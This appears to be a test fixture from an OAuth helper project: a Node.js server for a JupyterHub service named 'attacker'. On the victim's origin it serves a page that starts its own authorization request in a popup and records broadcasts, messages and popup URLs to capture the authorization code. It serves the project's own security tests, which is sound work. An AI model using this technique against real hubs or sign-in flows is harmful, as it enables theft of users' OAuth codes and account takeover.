#!/usr/bin/env node
// "Another user's page" on a one-origin hub, for the attack test (docs/architecture.md, "Hub demo").
// JupyterHub starts it as the service `attacker` (demo/jupyterhub_config.py, TOKENTOSS_HUB_ATTACKER=1)
// and its proxy routes /services/attacker/ here, so the page shares the victim's origin.
//
// Opened in Alice's browser, the page builds its own authorization request for the hub's OAuth
// client (its own state, PKCE S256 and nonce; the hub-level redirect URI) and opens it in a popup when
// its button is clicked. It then records everything that could carry the answer:
//   - broadcasts on the channel the callback page uses for its state ("tokentoss:" + state),
//   - 'message' events posted to this window,
//   - every URL the popup shows while it is on our origin (how a same-origin page reads a code).
// window.captured holds the records; window.captured.done turns true when the popup has closed or
// has rested on one same-origin URL for 2 s. Nothing here is sent anywhere: a test reads it.
import http from 'node:http';

import { listen, sendHtml, stopOnSignals } from './http-util.mjs';

const serviceUrl = new URL(
  process.env.JUPYTERHUB_SERVICE_URL ?? 'http://127.0.0.1:8633'
);
const config = {
  issuer: process.env.TOKENTOSS_ISSUER,
  clientId: process.env.TOKENTOSS_CLIENT_ID,
  redirectUri: process.env.TOKENTOSS_REDIRECT_URI
};

// Runs in the browser. Kept in one function so the page needs no build step.
function attackerPage(config) {
  const captured = {
    state: null,
    broadcasts: [],
    messages: [],
    popupUrls: [],
    done: false
  };
  window.captured = captured;
  window.addEventListener('message', event =>
    captured.messages.push(
      JSON.stringify({ origin: event.origin, data: event.data })
    )
  );
  const b64url = bytes =>
    btoa(String.fromCharCode(...bytes))
      .replace(/\+/g, '-')
      .replace(/\//g, '_')
      .replace(/=+$/, '');
  const random = () => b64url(crypto.getRandomValues(new Uint8Array(32)));

  async function attack(loginHint) {
    // Opened inside the click, as tokentoss does, so no popup blocker stops it.
    const popup = window.open('about:blank', 'tokentoss-attack');
    const state = random();
    const verifier = random();
    const digest = await crypto.subtle.digest(
      'SHA-256',
      new TextEncoder().encode(verifier)
    );
    captured.state = state;
    new BroadcastChannel('tokentoss:' + state).onmessage = event =>
      captured.broadcasts.push(JSON.stringify(event.data));
    const discovery = await (
      await fetch(config.issuer + '/.well-known/openid-configuration')
    ).json();
    const url = new URL(discovery.authorization_endpoint);
    url.search = new URLSearchParams({
      response_type: 'code',
      client_id: config.clientId,
      redirect_uri: config.redirectUri,
      scope: 'openid email profile',
      state,
      nonce: random(),
      code_challenge: b64url(new Uint8Array(digest)),
      code_challenge_method: 'S256',
      access_type: 'offline',
      prompt: 'consent',
      login_hint: loginHint
    }).toString();
    popup.location.href = url.href;
    watch(popup);
  }

  // Reads the popup's URL whenever it is same-origin (a cross-origin one throws).
  function watch(popup) {
    let last = null;
    let since = Date.now();
    const timer = setInterval(() => {
      let href = null;
      try {
        href = popup.closed ? null : popup.location.href;
      } catch {
        href = null;
      }
      if (href && href !== 'about:blank' && href !== last) {
        captured.popupUrls.push(href);
        last = href;
        since = Date.now();
      }
      if (popup.closed || (last !== null && Date.now() - since > 2000)) {
        clearInterval(timer);
        captured.done = true;
      }
    }, 10);
  }

  document.getElementById('attack').addEventListener('click', () => {
    void attack(document.getElementById('login-hint').value);
  });
}

const html = `<!doctype html>
<meta charset="utf-8">
<title>Totally harmless page</title>
<h1>Totally harmless page</h1>
<p>Served by the hub service "attacker" on the hub's origin.</p>
<input id="login-hint" value="alice@example.com" aria-label="login hint">
<button id="attack" type="button">Open</button>
<script>(${attackerPage.toString()})(${JSON.stringify(config)});</script>
`;

const server = http.createServer((req, res) => sendHtml(res, 200, html));
await listen(server, Number(serviceUrl.port), serviceUrl.hostname);
process.stderr.write(`hub attacker page on ${serviceUrl.href}\n`);
stopOnSignals('hub attacker', [server]);
